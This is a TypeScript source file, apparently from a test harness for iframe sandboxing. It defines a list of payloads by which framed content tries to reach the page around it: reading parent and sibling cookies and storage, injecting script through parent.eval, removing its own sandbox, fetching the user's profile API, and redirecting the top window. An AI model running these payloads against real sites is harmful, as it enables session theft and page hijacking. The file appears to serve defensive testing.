// The page around the frame: reading it, writing to it, and navigating it elsewhere.
import { canary } from "./strike.ts";
import { family, html, markup, script } from "./payload.ts";

const read = (expression: string) => script(({ tell }) => `const found = ${expression}; ${tell("read", "found")}`);
const move = (statement: (hit: string) => string) => script(({ hit }) => statement(hit()));

export const ancestors = family("ancestors", {
  "parent-cookie": read("parent.document.cookie"),
  "parent-title": read("parent.document.title"),
  "parent-html": read("parent.document.documentElement.outerHTML.length"),
  "top-address": read("top.location.href"),
  "parent-storage": read(`parent.localStorage.getItem("${canary.storage.name}")`),
  "own-frame-element": read("frameElement.outerHTML"),
  "loosen-own-frame": script(
    ({ tell }) => `frameElement.removeAttribute("sandbox"); location.reload(); ${tell("wrote", "self.origin")}`,
  ),
  "parent-eval": script(({ strike }) => `parent.eval(${JSON.stringify(strike)});`),
  "parent-script": script(
    ({ strike }) =>
      `const s = parent.document.createElement("script"); s.textContent = ${JSON.stringify(strike)}; parent.document.body.append(s);`,
  ),
  "parent-asks": script(
    ({ app, tell }) =>
      `const text = await (await parent.fetch("${app}/api/profile/me")).text(); ${tell("profile", "text")}`,
  ),
  "parent-opener": script(
    ({ tell }) => `parent.opener = null; parent.name = "attacked"; ${tell("wrote", "parent.name")}`,
  ),
  "top-assign": move((hit) => `top.location = "${hit}";`),
  "top-href": move((hit) => `top.location.href = "${hit}";`),
  "top-replace": move((hit) => `top.location.replace("${hit}");`),
  "top-script-address": script(({ strike }) => `top.location = "javascript:" + ${JSON.stringify(strike)};`),
  "parent-assign": move((hit) => `parent.location = "${hit}";`),
  "top-open": move((hit) => `window.open("${hit}", "_top");`),
  "parent-open": move((hit) => `window.open("${hit}", "_parent");`),
  "top-link": move(
    (hit) =>
      `const a = document.createElement("a"); a.href = "${hit}"; a.target = "_top"; document.body.append(a); a.click();`,
  ),
  "top-link-pressed": markup(({ hit }) => `<a data-click target="_top" href="${hit()}">Read on</a>`, { pressed: true }),
  "parent-link-pressed": markup(({ hit }) => `<a data-click target="_parent" href="${hit()}">Read on</a>`, {
    pressed: true,
  }),
  "base-target-pressed": markup(({ hit }) => `<base target="_top"><a data-click href="${hit()}">Read on</a>`, {
    pressed: true,
  }),
  "top-hash": html(
    ({ tell }) => `<script>top.location.hash = "attacked"; ${tell("moved", "top.location.hash")}</script>`,
  ),
  "top-history": script(
    ({ tell }) => `top.history.pushState({}, "", "/attacked"); ${tell("moved", "top.location.pathname")}`,
  ),
  "own-history": script(
    ({ tell }) =>
      `for (let i = 0; i < 20; i++) history.pushState({}, "", "#" + i); history.go(-40); ${tell("moved", "history.length")}`,
    {
      unproven: "a document may add to its own history; that no page moves by it is what is looked at",
    },
  ),
  siblings: script(
    ({ tell }) =>
      `let found = ""; for (let i = 0; i < top.frames.length; i++) found += top.frames[i].document.cookie; ${tell("read", "found")}`,
  ),
});
